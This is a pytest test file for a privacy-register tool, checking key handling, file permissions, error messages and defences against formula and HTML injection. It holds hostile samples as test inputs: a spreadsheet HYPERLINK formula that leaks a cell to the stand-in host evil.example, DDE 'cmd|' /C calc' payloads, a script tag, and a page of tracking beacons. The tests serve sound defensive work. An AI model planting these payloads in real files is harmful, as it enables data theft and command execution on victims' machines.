"""Hostile and broken outputs (issue #16, round two): the key, the store, the files we write.

Each test is named after the attack it repels.
"""
from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from datamap.errors import BadInput
from datamap.identity import MIN_KEY_BYTES, Pseudonymizer, load_key


@pytest.fixture
def key_from_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """No DATAMAP_KEY; the key lives in DATAMAP_KEY_FILE (tmp_path/keys/ws.key, not yet made)."""
    monkeypatch.delenv("DATAMAP_KEY", raising=False)
    path = tmp_path / "keys" / "ws.key"
    monkeypatch.setenv("DATAMAP_KEY_FILE", str(path))
    return path


# --- the pseudonym key -------------------------------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"   \n", b"abc\n"])
def test_an_empty_or_short_key_file_is_refused_with_one_line(key_from_file: Path, tmp_path: Path, content: bytes) -> None:
    key_from_file.parent.mkdir(mode=0o700)
    key_from_file.write_bytes(content)
    key_from_file.chmod(0o600)
    with pytest.raises(BadInput) as err:
        load_key(tmp_path)
    line = err.value.line()
    assert str(key_from_file) in line and f"at least {MIN_KEY_BYTES}" in line and "secrets.token_hex" in line
    assert "\n" not in line


def test_a_one_character_environment_key_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DATAMAP_KEY", "x")
    with pytest.raises(BadInput) as err:
        load_key(tmp_path)
    assert err.value.file == "DATAMAP_KEY" and "1 bytes" in err.value.message


def test_a_whitespace_environment_key_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DATAMAP_KEY", " " * 40)
    with pytest.raises(BadInput):
        load_key(tmp_path)


def test_a_world_readable_key_file_is_refused(key_from_file: Path, tmp_path: Path) -> None:
    key_from_file.parent.mkdir(mode=0o700)
    key_from_file.write_text("a-long-enough-key-but-anyone-can-read-it\n")
    key_from_file.chmod(0o644)
    with pytest.raises(BadInput) as err:
        load_key(tmp_path)
    assert "chmod 600" in err.value.line() and "644" in err.value.message


def test_a_key_path_that_is_a_folder_is_one_line(key_from_file: Path, tmp_path: Path) -> None:
    key_from_file.mkdir(parents=True)
    with pytest.raises(BadInput) as err:
        load_key(tmp_path)
    assert "folder" in err.value.message


def test_an_unreadable_key_file_is_one_line(key_from_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key_from_file.parent.mkdir(mode=0o700)
    key_from_file.write_text("k" * 64)
    key_from_file.chmod(0o000)
    if os.geteuid() == 0:  # root reads any file: refuse as the kernel would for anyone else
        def denied(self: Path) -> bytes:
            raise PermissionError(13, "Permission denied", str(self))
        monkeypatch.setattr(Path, "read_bytes", denied)
    with pytest.raises(BadInput) as err:
        load_key(tmp_path)
    assert "cannot read" in err.value.message


def test_a_new_key_is_0600_in_a_0700_folder_and_long(key_from_file: Path, tmp_path: Path) -> None:
    key = load_key(tmp_path)
    assert len(key) == 64 and load_key(tmp_path) == key
    assert stat.S_IMODE(key_from_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(key_from_file.parent.stat().st_mode) == 0o700
    assert [p.name for p in key_from_file.parent.iterdir()] == ["ws.key"]  # no temporary file left


def test_a_key_write_that_fails_on_a_full_disk_leaves_no_short_file(key_from_file: Path, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    real_fsync = os.fsync

    def disk_full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(BadInput) as err:
        load_key(tmp_path)
    assert "No space left" in err.value.message
    assert list(key_from_file.parent.iterdir()) == []  # nothing for the next run to trust
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert len(load_key(tmp_path)) == 64


def test_the_test_suite_key_is_long_enough() -> None:
    assert len(Pseudonymizer(load_key(Path("."))).ref("jan@example.nl")) == len("subj-") + 12


# --- the staged store ----------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_staged_store_of_raw_identifiers_is_not_readable_by_others(demo_workspace: Path, tmp_path: Path) -> None:
    import shutil

    from datamap.store import stage

    ws = Path(shutil.copytree(demo_workspace, tmp_path / "ws", ignore=shutil.ignore_patterns(".datamap")))
    store = stage(ws, collections=[])
    store.close()
    target = ws / ".datamap" / "store.sqlite"
    assert (_mode(target.parent), _mode(target)) == (0o700, 0o600)
    assert [p.name for p in target.parent.iterdir() if _mode(p) & 0o077] == []


def test_a_store_an_older_version_left_0644_is_made_private(demo_workspace: Path, tmp_path: Path) -> None:
    import shutil

    from datamap.store import stage

    ws = Path(shutil.copytree(demo_workspace, tmp_path / "ws", ignore=shutil.ignore_patterns(".datamap")))
    (ws / ".datamap").mkdir(mode=0o755)
    (ws / ".datamap").chmod(0o755)
    (ws / ".datamap" / "store.sqlite").touch(mode=0o644)
    (ws / ".datamap" / "store.sqlite").chmod(0o644)
    stage(ws, collections=[]).close()
    assert (_mode(ws / ".datamap"), _mode(ws / ".datamap" / "store.sqlite")) == (0o700, 0o600)


# --- spreadsheet formula injection ---------------------------------------------------------------

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"])
def test_a_formula_in_a_cell_is_neutralised_with_a_quote(text: str) -> None:
    from datamap.outputs import safe_cell

    assert safe_cell(text) == "'" + text


def test_plain_numbers_and_text_are_left_as_they_are() -> None:
    from datamap.outputs import safe_cell

    assert [safe_cell(v) for v in ("+31612345678", "-12.50", "Jan de Vries", "", None, 7)] == \
        ["+31612345678", "-12.50", "Jan de Vries", "", None, 7]


def test_a_formula_in_a_finding_does_not_run_in_findings_csv() -> None:
    import csv
    import io

    from datamap.audit.archive import findings_csv
    from datamap.findings import Finding

    finding = Finding(claim="P01", rule="r", severity="high", system=FORMULA, record_key="@SUM(A1)", detail="-1+cmd|x")
    (row,) = list(csv.DictReader(io.StringIO(findings_csv([finding]))))
    assert (row["system"], row["record_key"], row["detail"]) == ("'" + FORMULA, "'@SUM(A1)", "'-1+cmd|x")


def test_a_formula_in_a_subject_record_does_not_run_in_the_export_csv() -> None:
    import csv
    import io

    from datamap.subject.export import _csv

    text = _csv(["=name", "phone"], [{"=name": FORMULA, "phone": "+31612345678"}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=name", "phone"], ["'" + FORMULA, "+31612345678"]]


def test_a_declaration_named_as_a_formula_is_text_in_the_register_xlsx(demo_workspace: Path, tmp_path: Path) -> None:
    import shutil

    from openpyxl import load_workbook

    from datamap.register.ropa import write_register

    ws = Path(shutil.copytree(demo_workspace, tmp_path / "ws", ignore=shutil.ignore_patterns(".datamap")))
    systems = ws / "manifests" / "systems.yml"
    systems.write_text(systems.read_text(encoding="utf-8").replace(
        "- name: Klantrelaties en contracten", "- name: '=HYPERLINK(\"http://evil.example\",\"x\")'", 1), encoding="utf-8")
    path, _ = write_register(ws, tmp_path / "out", "xlsx", "en")
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("evil.example" in c.value for c in cells)
    assert [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "-", "@"))] == []


# --- HTML in names that reach pages ----------------------------------------------------------------

SCRIPT = "<script>alert('datamap')</script>"


def test_a_script_in_a_check_name_is_text_in_the_data_docs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from test_audit import audit, build

    h = build(tmp_path)
    p01 = h["checks"] / "P01.yml"
    p01.write_text(p01.read_text(encoding="utf-8").replace(
        'name: "Accounts of people who are not employees ({system})"', f'name: "{SCRIPT} ({{system}})"', 1), encoding="utf-8")
    audit(h)
    pages = [p for p in h["out"].rglob("*.html")]
    assert pages
    assert [str(p) for p in pages if "<script>alert(" in p.read_text(encoding="utf-8", errors="replace")] == []
    assert any("&lt;script&gt;alert(" in p.read_text(encoding="utf-8", errors="replace") for p in pages)


def test_a_script_in_a_manifest_name_is_text_in_the_subject_summary(tmp_path_factory: pytest.TempPathFactory) -> None:
    import copy
    import datetime as dt

    import test_subject as ts

    from datamap.subject import Subject, build_export, find, summary

    ws, dm, con = ts.estate.__wrapped__(tmp_path_factory)
    subject = Subject.of(email=[ts.JAN_EMAIL], customer_number=["APR-100042"])
    doc = copy.deepcopy(build_export(con, ws, dm, subject, find(con, dm, subject),
                                     generated=dt.datetime(2026, 11, 24, 12, 0, tzinfo=dt.timezone.utc)))
    doc["explanation"]["controller"]["name"] = SCRIPT
    doc["explanation"]["purposes"][0]["text"] = SCRIPT
    doc["systems"][0]["name"] = SCRIPT
    for language in ("nl", "en"):
        text = summary(doc, language)
        assert "<script" not in text and text.count("&lt;script&gt;alert(&#39;datamap&#39;)&lt;/script&gt;") >= 3  # the letter's HTML


# --- one line where one line is promised -----------------------------------------------------------


def _one_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    return err.strip()


def test_an_out_that_is_a_file_is_one_line_not_a_traceback(demo_workspace: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    from datamap import cli

    (tmp_path / "a-file").write_text("not a folder")
    assert cli.main(["ropa", str(demo_workspace), "--out", str(tmp_path / "a-file")]) == 2
    assert _one_line(capsys).startswith(f"error: {tmp_path / 'a-file'}")


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder")
def test_a_read_only_out_is_one_line_not_a_traceback(demo_workspace: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    from datamap import cli

    (tmp_path / "ro").mkdir(mode=0o500)
    assert cli.main(["ropa", str(demo_workspace), "--out", str(tmp_path / "ro")]) == 2
    assert "Permission denied" in _one_line(capsys)


def test_a_full_disk_is_one_line_not_a_traceback(demo_workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    import errno

    from datamap import cli
    from datamap.register import xlsx

    def disk_full(reg: object, path: Path) -> Path:
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(xlsx, "write_xlsx", disk_full)
    assert cli.main(["ropa", str(demo_workspace), "--out", str(tmp_path / "out")]) == 2
    line = _one_line(capsys)
    assert "No space left on device" in line and "free some disk space" in line


@pytest.mark.parametrize("args", [["--out", ""], ["--out=  "], ["--export", ""]])
def test_an_empty_out_is_refused_not_the_current_folder(demo_workspace: Path, tmp_path: Path, args: list[str],
                                                        monkeypatch: pytest.MonkeyPatch,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    from datamap import cli

    monkeypatch.chdir(tmp_path)
    command = ["subject", str(demo_workspace), "--email", "a@b.nl"] if "--export" in args else ["ropa", str(demo_workspace)]
    assert cli.main([*command, *args]) == 2
    assert "empty folder name" in _one_line(capsys)
    assert list(tmp_path.iterdir()) == []


def test_a_short_key_through_the_cli_is_one_line(demo_workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    from datamap import cli

    monkeypatch.setenv("DATAMAP_KEY", "k")
    assert cli.main(["audit", str(demo_workspace), "--out", str(tmp_path / "audit")]) == 2
    assert _one_line(capsys).startswith("error: DATAMAP_KEY: the pseudonym key is 1 bytes")
    assert not (tmp_path / "audit" / "runs").exists() or list((tmp_path / "audit" / "runs").iterdir()) == []


# --- the PDF step --------------------------------------------------------------------------------------


def test_a_failed_pdf_deletes_the_previous_runs_pdf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from register_fixture import write_run, write_workspace

    from datamap import report
    from datamap.workspace import load_workspace

    workspace = load_workspace(write_workspace(tmp_path / "ws"))
    run = write_run(tmp_path / "audit")
    old = tmp_path / "report.pdf"
    old.write_bytes(b"%PDF-1.7 the previous run's report")
    monkeypatch.setattr(report, "pdf_converter", lambda: ("/bin/false", "Chromium 0 (broken)"))
    html = report.write_report(workspace, run, tmp_path / "report.html", pdf=True)
    assert not old.exists()
    assert "PDF made with" not in html.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".pdf" or p.name.startswith(".report")) == []


def test_no_pdf_asked_deletes_the_previous_runs_pdf_too(tmp_path: Path) -> None:
    from register_fixture import write_run, write_workspace

    from datamap import report
    from datamap.workspace import load_workspace

    workspace = load_workspace(write_workspace(tmp_path / "ws"))
    (tmp_path / "report.pdf").write_bytes(b"%PDF-1.7 old")
    report.write_report(workspace, write_run(tmp_path / "audit"), tmp_path / "report.html", pdf=False)
    assert not (tmp_path / "report.pdf").exists()


@pytest.mark.skipif(__import__("datamap.report", fromlist=["x"]).pdf_converter() is None, reason="chromium is not installed")
def test_chromium_printing_a_report_makes_no_network_request(tmp_path: Path) -> None:
    import http.server
    import threading

    from datamap.report import chromium, pdf_converter

    asked: list[str] = []

    class Pixel(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pixel)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        page = tmp_path / "planted.html"
        page.write_text(f'<!DOCTYPE html><html><body><img src="http://127.0.0.1:{port}/ip.png">'
                        f'<img src="http://localhost:{port}/name.png"><img src="http://tracker.example/p.png">'
                        f'<link rel="stylesheet" href="http://127.0.0.1:{port}/font.css"></body></html>')
        result = chromium(pdf_converter()[0], "--virtual-time-budget=3000", "--dump-dom", page.resolve().as_uri())
        assert "tracker.example" in result.stdout  # the page was loaded
    finally:
        server.shutdown()
        server.server_close()
    assert asked == []


def test_a_script_in_a_declaration_name_is_text_in_the_register_markdown(demo_workspace: Path, tmp_path: Path) -> None:
    import shutil

    from datamap.register.ropa import write_register

    ws = Path(shutil.copytree(demo_workspace, tmp_path / "ws", ignore=shutil.ignore_patterns(".datamap")))
    systems = ws / "manifests" / "systems.yml"
    systems.write_text(systems.read_text(encoding="utf-8").replace(
        "- name: Klantrelaties en contracten", f'- name: "{SCRIPT}"', 1), encoding="utf-8")
    path, _ = write_register(ws, tmp_path / "out", "md", "en")
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text and "&lt;script&gt;alert('datamap')&lt;/script&gt;" in text
